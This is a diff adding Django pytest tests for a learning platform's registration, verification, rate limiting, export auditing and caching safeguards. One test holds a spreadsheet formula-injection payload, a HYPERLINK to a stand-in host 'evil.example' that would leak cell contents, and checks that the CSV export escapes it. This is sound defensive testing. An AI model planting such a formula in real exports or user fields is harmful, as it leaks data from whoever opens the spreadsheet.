@@ -6,15 +6,19 @@ import json
 import pytest
 from django.conf import settings
 from django.core import mail
+from django.test import Client
 from django.urls import reverse
 
+from conftest import login_with_second_factor
 from rumbo.accounts.models import User
+from rumbo.audit.models import AuditEntry
 from rumbo.learning import services
 from rumbo.learning.models import Attempt, Enrolment, Facilitator, LearnerProfile, Lesson, Question
 from rumbo.learning.tests.conftest import correct_data
 
 pytestmark = pytest.mark.django_db
 HTML_BUDGET = 14_600
+PASSWORD = "un camino largo 2026"
 
 
 def start_attempt(client, version, module=1) -> Attempt:
@@ -210,17 +214,31 @@ def test_registration_verification_and_enrolment(
             {
                 "full_name": "Rosa Díaz",
                 "email": "rosa@example.org",
-                "password": "un camino largo 2026",
+                "password": PASSWORD,
             },
         )
     assert response.status_code == 200
     link = next(word for word in mail.outbox[0].body.split() if "/campus/verify/" in word)
     version = course.versions.get(language="es")
     enrol = reverse("learning:enrol", kwargs={"slug": course.slug, "language": "es"})
-    assert client.post(enrol).status_code == 403
-    client.get(link.removeprefix("http://testserver"))
+    assert "_auth_user_id" not in client.session
+    opened = client.get(link.removeprefix("http://testserver"))
+    assert opened["Location"] == reverse("learning:catalogue")
     assert client.post(enrol).status_code == 302
     assert Enrolment.objects.filter(user__email="rosa@example.org", version=version).exists()
+
+
+def test_the_link_opened_in_another_browser_confirms_but_does_not_log_in(
+    client, course, django_capture_on_commit_callbacks
+):
+    with django_capture_on_commit_callbacks(execute=True):
+        register(client, "rosa@example.org")
+    link = next(word for word in mail.outbox[0].body.split() if "/campus/verify/" in word)
+    other = Client()
+    opened = other.get(link.removeprefix("http://testserver"))
+    assert opened["Location"] == reverse("learning:login")
+    assert "_auth_user_id" not in other.session
+    assert LearnerProfile.objects.get(user__email="rosa@example.org").email_verified_at
 
 
 def test_registration_keeps_input_and_names_the_problem(client, db):
@@ -256,7 +274,7 @@ def test_reports_are_refused_to_learners(client, learner, course):
 def test_facilitator_sees_only_their_courses(client, course, short_course):
     user = User.objects.create_user(email="marta@example.org", password="x")
     Facilitator.objects.filter(slug="marta-quiroga").update(user=user)
-    client.force_login(user)
+    login_with_second_factor(client, user)
     assert (
         client.get(reverse("learning:manage_course", kwargs={"slug": course.slug})).status_code
         == 200
@@ -338,3 +356,113 @@ def test_unverified_learner_can_get_the_link_again(
     link = next(word for word in mail.outbox[0].body.split() if "/campus/verify/" in word)
     client.get(link.removeprefix("http://testserver"))
     assert client.post(enrol).status_code == 302
+
+
+def test_csv_export_neutralises_a_formula_in_a_learners_name(admin_client, enrolment):
+    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    User.objects.filter(pk=enrolment.user_id).update(full_name=name)
+    response = admin_client.get(
+        reverse("learning:manage_csv", kwargs={"slug": enrolment.version.course.slug})
+    )
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[1][1] == "'" + name
+
+
+@pytest.mark.parametrize(
+    ("route", "reason"),
+    [("learning:manage_csv", "enrolments CSV"), ("learning:manage_statements", "xAPI statements")],
+)
+def test_exports_of_learners_records_are_audited(
+    admin_client, admin_user, enrolment, route, reason
+):
+    course = enrolment.version.course
+    response = admin_client.get(reverse(route, kwargs={"slug": course.slug}))
+    assert response.status_code == 200
+    entry = AuditEntry.objects.get(action=AuditEntry.Action.EXPORT)
+    assert (entry.actor, entry.target_type, entry.target_id) == (
+        admin_user,
+        "learning.course",
+        str(course.pk),
+    )
+    assert entry.reason == reason
+
+
+@pytest.mark.parametrize(
+    "route", ["learning:manage_course", "learning:manage_csv", "learning:manage_statements"]
+)
+def test_manage_pages_and_exports_are_never_stored(admin_client, enrolment, route):
+    response = admin_client.get(reverse(route, kwargs={"slug": enrolment.version.course.slug}))
+    assert response.status_code == 200
+    assert "no-store" in response["Cache-Control"]
+
+
+def test_manage_refusal_is_never_stored(client, learner):
+    client.force_login(learner)
+    response = client.get(reverse("learning:manage"))
+    assert response.status_code == 403
+    assert "no-store" in response["Cache-Control"]
+
+
+def register(client, email: str, name: str = "Rosa Díaz", **headers):
+    data = {"full_name": name, "email": email, "password": PASSWORD}
+    return client.post(reverse("learning:register"), data, **headers)
+
+
+def test_registration_does_not_reveal_an_existing_account(
+    client, learner, django_capture_on_commit_callbacks
+):
+    with django_capture_on_commit_callbacks(execute=True):
+        existing = register(client, learner.email.upper())
+        new = register(client, "nueva@example.org")
+    assert existing.status_code == new.status_code == 200
+    assert existing.content.decode().replace(
+        learner.email.upper(), "@"
+    ) == new.content.decode().replace("nueva@example.org", "@")
+    assert "_auth_user_id" not in client.session
+    told = next(message for message in mail.outbox if message.to == [learner.email])
+    assert "Someone tried to register" in told.body
+    assert "/campus/verify/" not in told.body
+    assert User.objects.filter(email=learner.email).count() == 1
+
+
+def test_a_300_character_email_is_refused_for_its_length(client, db):
+    email = "a" * 288 + "@example.org"
+    response = register(client, email)
+    page = response.content.decode()
+    assert response.status_code == 400
+    assert "at most 254 characters" in page
+    assert "already exists" not in page
+    assert not User.objects.filter(email=email).exists()
+
+
+def test_registration_is_rate_limited_per_email(client, db, settings):
+    settings.RUMBO_CAMPUS_EMAIL_RATE_PER_EMAIL = "2/h"
+    for attempt in range(2):
+        assert (
+            register(client, "rosa@example.org", REMOTE_ADDR=f"192.0.2.{attempt}").status_code
+            == 200
+        )
+    mail.outbox.clear()
+    response = register(client, "Rosa@example.org", REMOTE_ADDR="192.0.2.99")
+    assert response.status_code == 429
+    assert "Too many requests" in response.content.decode()
+    assert mail.outbox == []
+
+
+def test_registration_is_rate_limited_per_address(client, db, settings):
+    settings.RUMBO_CAMPUS_EMAIL_RATE_PER_ADDRESS = "2/h"
+    for attempt in range(2):
+        assert register(client, f"rosa{attempt}@example.org").status_code == 200
+    response = register(client, "rosa9@example.org")
+    assert response.status_code == 429
+    assert not User.objects.filter(email="rosa9@example.org").exists()
+
+
+def test_sending_the_verification_again_is_rate_limited(client, db, settings):
+    settings.RUMBO_CAMPUS_EMAIL_RATE_PER_EMAIL = "2/h"
+    client.force_login(User.objects.create_user(email="late@example.org", password="x"))
+    for _attempt in range(2):
+        assert client.post(reverse("learning:verify_again")).status_code == 200
+    response = client.post(reverse("learning:verify_again"))
+    assert response.status_code == 429
+    assert "Too many requests" in response.content.decode()
